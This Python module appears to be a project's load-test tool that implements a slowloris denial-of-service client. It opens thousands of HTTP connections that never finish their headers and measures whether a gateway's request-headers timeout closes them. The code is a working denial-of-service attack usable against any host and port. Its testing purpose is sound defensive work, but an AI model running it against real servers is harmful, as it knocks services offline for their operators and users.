"""Slow-header ("slowloris") client: many HTTP/1.1 connections whose headers never finish.

Each connection sends the request line and one header, then nothing, and waits for the server
to close it. A server (or gateway) with a request-headers timeout closes them all shortly after
that timeout; one without holds them until the client gives up, keeping a file descriptor and
memory per connection.

Used by ``tests/cluster/test_gateway_edge.py``; a benchmark can call
:func:`slow_header_connections` the same way::

    result = asyncio.run(slow_header_connections("127.0.0.1", 8080, 3000, hold_seconds=30))
    print(result.summary())
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import time
from dataclasses import dataclass

__all__ = ["DEFAULT_PARTIAL_REQUEST", "SlowlorisResult", "main", "slow_header_connections"]

DEFAULT_PARTIAL_REQUEST = b"POST /chat.ChatService/SendMessage HTTP/1.1\r\nHost: x\r\n"


@dataclass(frozen=True)
class SlowlorisResult:
    """Per connection: seconds from sending the partial headers until the server closed it."""

    requested: int
    connect_failures: int
    # One entry per opened connection; None = still open when the client gave up.
    close_times: tuple[float | None, ...]
    # What the server sent before closing (first bytes of the first connection that got any).
    sample_reply: bytes
    hold_seconds: float

    @property
    def opened(self) -> int:
        return len(self.close_times)

    @property
    def closed(self) -> int:
        return sum(1 for t in self.close_times if t is not None)

    @property
    def still_open(self) -> int:
        return self.opened - self.closed

    @property
    def max_close_seconds(self) -> float | None:
        times = [t for t in self.close_times if t is not None]
        return max(times) if times else None

    @property
    def min_close_seconds(self) -> float | None:
        times = [t for t in self.close_times if t is not None]
        return min(times) if times else None

    def summary(self) -> str:
        def fmt(value: float | None) -> str:
            return "-" if value is None else f"{value:.2f}s"

        return (
            f"{self.opened}/{self.requested} slow-header connections opened "
            f"({self.connect_failures} failed to connect); closed by the server: {self.closed} "
            f"(first after {fmt(self.min_close_seconds)}, last after "
            f"{fmt(self.max_close_seconds)}); still open after {self.hold_seconds:.0f}s: "
            f"{self.still_open}"
        )


async def _one(
    host: str,
    port: int,
    partial_request: bytes,
    hold_seconds: float,
    opening: asyncio.Semaphore,
    replies: list[bytes],
) -> float | BaseException | None:
    async with opening:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        except (OSError, TimeoutError) as exc:
            return exc
    try:
        writer.write(partial_request)
        await writer.drain()
        sent = time.monotonic()
        deadline = sent + hold_seconds
        while True:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return None
            try:
                chunk = await asyncio.wait_for(reader.read(4096), remaining)
            except TimeoutError:
                return None
            except OSError:  # reset by the server counts as closed
                return time.monotonic() - sent
            if not chunk:
                return time.monotonic() - sent
            if not replies:
                replies.append(chunk[:200])
    finally:
        writer.close()
        with contextlib.suppress(OSError, ConnectionError):
            await writer.wait_closed()


async def slow_header_connections(
    host: str,
    port: int,
    count: int,
    *,
    hold_seconds: float = 30.0,
    partial_request: bytes = DEFAULT_PARTIAL_REQUEST,
    connect_concurrency: int = 200,
) -> SlowlorisResult:
    """Open ``count`` connections that send ``partial_request`` and never finish the headers.

    Each waits up to ``hold_seconds`` (from its own send) for the server to close it. Returns
    the close time of every connection that was opened (None if the server kept it open).
    """
    if count < 1:
        raise ValueError("count must be positive")
    opening = asyncio.Semaphore(connect_concurrency)
    replies: list[bytes] = []
    outcomes = await asyncio.gather(
        *(_one(host, port, partial_request, hold_seconds, opening, replies) for _ in range(count))
    )
    close_times = tuple(o for o in outcomes if not isinstance(o, BaseException))
    return SlowlorisResult(
        requested=count,
        connect_failures=sum(1 for o in outcomes if isinstance(o, BaseException)),
        close_times=close_times,
        sample_reply=replies[0] if replies else b"",
        hold_seconds=hold_seconds,
    )


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m loadtest.attacks.slowloris", description=__doc__)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=3000)
    p.add_argument("--hold-seconds", type=float, default=30.0)
    args = p.parse_args(argv)
    result = asyncio.run(
        slow_header_connections(
            args.host, args.port, args.connections, hold_seconds=args.hold_seconds
        )
    )
    print(result.summary())
    return 0 if result.still_open == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
